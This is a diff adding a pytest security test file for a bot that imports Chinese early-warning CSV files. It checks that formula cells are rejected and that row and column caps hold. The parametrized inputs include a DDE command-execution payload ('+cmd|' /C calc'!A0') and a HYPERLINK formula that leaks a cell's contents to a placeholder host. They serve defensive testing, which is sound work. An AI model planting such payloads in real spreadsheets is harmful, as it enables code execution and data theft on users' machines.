@@ -1,0 +1,53 @@
+"""Security review of the early-warning file, the evidence zip and the export (revB)."""
+from __future__ import annotations
+
+import pytest
+
+from bot import warnings as domain
+
+from .conftest import OFFICE, TZ
+from .test_warnings import ROWS, csv_file
+
+
+async def stored(bot) -> list:
+    return await bot.storage.warnings._select("1 = 1")
+
+
+@pytest.mark.parametrize("column, bad", [(0, '=HYPERLINK("http://x.example/?"&B3,"点我")'), (0, "@SUM(1)"),
+                                         (5, "=1+1"), (2, "+cmd|' /C calc'!A0"), (3, "-2+3")])
+async def test_a_warning_file_with_a_formula_in_a_text_cell_is_rejected_whole(bot, column, bad):
+    row = ROWS[1].split(",")
+    row[column] = '"' + bad.replace('"', '""') + '"'
+    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0], ",".join(row)))
+    assert await stored(bot) == []
+    assert "第 3 行" in bot.last_text(OFFICE) and "公式" in bot.last_text(OFFICE)
+
+
+async def test_a_phone_written_with_plus_86_is_no_formula(bot):
+    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0].replace("13812341234", "+86 138 1234 1234")))
+    assert [w.phone for w in await stored(bot)] == ["13812341234"]
+
+
+async def test_a_warning_time_far_ahead_is_a_wrong_date(bot):
+    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0], ROWS[1].replace("2026-11-24 09:40", "2099-11-24 09:40")))
+    assert await stored(bot) == [] and "第 3 行" in bot.last_text(OFFICE)
+    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[1].replace("2026-11-24 09:40", "2026-11-24 23:40")))
+    assert len(await stored(bot)) == 1                    # later today: a clock a little ahead is fine
+
+
+def test_reading_stops_at_the_row_past_the_cap(monkeypatch):
+    """A hostile file of a million rows is rejected once the cap is passed, not read to its
+    end first (inside the event's transaction): the garbage after the cap (a field the CSV reader
+    refuses) is never reached."""
+    monkeypatch.setattr(domain, "MAX_ROWS", 10)
+    data = csv_file(*[ROWS[0].replace("1234,", f"12{i:02d},", 1) for i in range(12)]) + b"x" * 200_000 + b"\n"
+    with pytest.raises(domain.WarningFileError) as err:
+        domain.parse("w.csv", data, TZ)
+    assert (err.value.row, err.value.key) == (12, "too-many")
+
+
+def test_only_the_first_columns_are_read():
+    data = ("姓名,电话,网格,预警类型,预警时间" + ",x" * 100_000 + "\n" + ROWS[0].split(",", 3)[0] +
+            ",13812341234,BHQ-1,刷单,2026-11-24 09:30\n").encode()
+    rows = domain.read_table("w.csv", data, 5)
+    assert [len(r) for r in rows] == [domain.MAX_COLUMNS, 5]
